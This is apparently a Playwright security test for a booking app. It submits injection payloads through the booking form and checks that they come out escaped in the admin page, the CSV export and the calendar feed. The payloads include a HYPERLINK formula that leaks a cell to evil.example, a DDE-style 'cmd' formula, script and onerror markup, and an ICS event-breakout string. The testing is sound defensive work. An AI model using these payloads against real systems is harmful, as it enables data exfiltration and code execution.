import { expect, test } from "@playwright/test";
import { dayFor, founderEmail, pickDayThenTime } from "./booking-helpers";
import { signIn } from "./support/admin-credentials";

// What a founder types is data wherever the consultant reads it: text on the admin page, plain cells in the CSV,
// escaped text in the calendar feed. (The emails are checked with the outbox.)

const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const companyFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
const markup = '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2"><b>bold?</b>';
const breakout = "\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected; with, commas \\";

test("script, HTML and formula payloads typed into the booking form come out inert in the admin, the CSV and the feed", async ({ page }, testInfo) => {
  test.setTimeout(90_000);
  const email = founderEmail(testInfo, "payloads");
  await page.goto("/book");
  await pickDayThenTime(page, dayFor(testInfo, 4));
  await page.getByLabel("Your name").fill(formula);
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Company").fill(companyFormula);
  await page.getByLabel("What would you like to talk about?").fill(`${markup}${breakout}`);
  await page.getByRole("button", { name: "Book the intro call" }).click();
  await expect(page).toHaveURL(/\/book\/manage\/[A-Za-z0-9_-]{43}\?booked=1$/, { timeout: 20_000 });

  await signIn(page);
  // The booking's row in the export ends with its id; its page in the admin is the one to read.
  const exported = await (await page.request.get("/admin/bookings.csv")).text();
  const id = /,([0-9a-f-]{36})\r\n/.exec(exported.slice(exported.indexOf(email)))![1]!;
  await page.goto(`/admin/bookings/${id}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(formula);
  await expect(page.getByText(markup)).toBeVisible();
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  await expect(page.locator("main script, main img, main b")).toHaveCount(0);

  const csv = await (await page.request.get("/admin/bookings.csv")).text();
  const row = csv.split("\r\n").find((line) => line.includes(email))!;
  expect(row).toContain(`"'${formula.replace(/"/g, '""')}"`);
  expect(row).toContain(`'${companyFormula}`);
  expect(csv).toContain(`"${markup.replace(/"/g, '""')}`);

  await page.goto("/admin/calendar");
  const feed = (await (await page.request.get(await page.getByLabel("Subscription address").inputValue())).text()).replace(/\r\n /g, "");
  const events = feed.split(/^BEGIN:VEVENT$/m).slice(1);
  const ours = events.filter((event) => event.includes(email));
  expect(ours).toHaveLength(1);
  expect(feed).not.toMatch(/^SUMMARY:injected/m);
  expect(ours[0]).toContain("\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:injected\\; with\\, commas \\\\");
  expect(ours[0]).toMatch(/^SUMMARY:Intro call: =HYPERLINK\("http:\/\/evil\.example\/\?leak="&A1\\,"Open"\)/m);
});
